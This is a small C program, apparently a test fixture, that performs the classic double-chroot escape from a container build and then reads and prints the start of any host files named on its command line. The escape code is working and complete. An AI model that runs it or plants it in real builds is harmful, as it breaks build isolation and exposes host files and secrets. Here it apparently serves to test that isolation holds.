/*
 * The classic double-chroot escape, as a hostile build's RUN would try it: chroot into a subdirectory while the
 * working directory stays outside it, climb with "..", chroot to where the climb ended. Under a plain chroot (buildah's
 * chroot isolation as root) this lands on the host's root; under pivot_root (OCI isolation) there is nothing above
 * the container's root. Then it looks for the files named on its command line and says which it found.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    mkdir("/.escape", 0755);
    if (chroot("/.escape") != 0) {
        perror("escape: first chroot");
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) {
            break;
        }
    }
    if (chroot(".") != 0) {
        perror("escape: second chroot");
    }
    int found = 0;
    for (int i = 1; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY);
        if (fd >= 0) {
            char buffer[128] = {0};
            ssize_t n = read(fd, buffer, sizeof buffer - 1);
            printf("escape: HOST FILE FOUND %s (%zd bytes: %s)\n", argv[i], n, buffer);
            close(fd);
            found = 1;
        } else {
            printf("escape: no host file %s\n", argv[i]);
        }
    }
    printf("escape: done\n");
    return found;
}
